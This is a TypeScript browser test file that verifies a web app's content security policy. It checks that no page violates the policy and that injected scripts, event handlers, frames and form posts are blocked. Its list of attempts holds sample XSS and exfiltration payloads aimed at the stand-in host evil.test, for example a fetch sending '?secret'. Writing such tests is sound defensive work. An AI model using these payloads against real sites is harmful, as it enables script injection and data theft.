// What the content security policy is for, in a real browser: no page of ours needs what it forbids, and it forbids what somebody
// who got markup into a page would need.
import t from 'tap'
import { noBrowser, startBrowser } from '../fixtures/browser.ts'
import { eventually } from '../fixtures/fleet.ts'
import { startReceiver } from '../fixtures/receiver.ts'

t.setTimeout(120_000)

const forbidden = /Content Security Policy/

t.test('policy', { skip: noBrowser }, async (t) => {
  const receiver = await startReceiver(t)
  const newPage = await startBrowser(t, receiver)

  await t.test('no page needs what it forbids', async (t) => {
    const { open, complaints } = await newPage()
    // /queue/raw is Bull Board's page, which asks a font of a site that is forbidden, and goes without.
    const paths = receiver.app
      .routeAccess()
      .filter(
        ({ method, url }) =>
          method === 'GET' && !/[:*]|^\/(api|live|metrics|healthz|readyz|audit\/export|queue\/raw)/.test(url),
      )
      .map(({ url }) => url)
    t.ok(paths.length > 10)
    for (const path of paths) {
      await open(path)
      t.strictSame(
        complaints.filter((text) => forbidden.test(text)),
        [],
        path,
      )
    }
  })

  const attempts = {
    'a script in the page': 'add("script", { textContent: "window.ran = true" })',
    'a script from elsewhere': 'add("script", { src: "http://evil.test/x.js" })',
    'a script as data': 'add("script", { src: "data:text/javascript,window.ran=true" })',
    'a handler in an attribute': 'add("div").outerHTML = "<img src=/x onerror=\\"window.ran = true\\">"',
    'a style in the page': 'add("style", { textContent: "body { background: url(http://evil.test/) }" })',
    'an image from elsewhere': 'add("img", { src: "http://evil.test/?secret" })',
    'a frame': 'add("iframe", { src: "http://evil.test/" })',
    'an object': 'add("object", { data: "http://evil.test/" })',
    'another base': 'add("base", { href: "http://evil.test/" })',
    'a request to elsewhere': 'fetch("http://evil.test/?secret").catch(() => {})',
    'a form to elsewhere': 'add("form", { action: "http://evil.test/", method: "post" }).submit()',
  }
  await t.test('what it forbids', async (t) => {
    const { page, open, complaints } = await newPage()
    for (const [what, script] of Object.entries(attempts)) {
      await open('/locks')
      complaints.length = 0
      const told = page.waitForEvent('console', { predicate: (message) => forbidden.test(message.text()) })
      await page.evaluate(
        `const add = (name, what = {}) => document.body.appendChild(Object.assign(document.createElement(name), what)); ${script}; undefined`,
      )
      await told
      t.ok(
        complaints.some((text) => forbidden.test(text)),
        what,
      )
      t.equal(await page.evaluate('window.ran'), undefined, what)
      t.match(page.url(), receiver.url, 'the page is where it was')
    }
  })

  await t.test('it is in no frame of another page', async () => {
    const { page } = await newPage()
    await page.goto('about:blank')
    await page.setContent(`<iframe src="${receiver.url}/sign-in"></iframe>`)
    // What a browser shows in the place of what it must not.
    await eventually(
      () => page.frames().some((frame) => frame.url().startsWith('chrome-error:')),
      'it is refused',
    )
  })
})
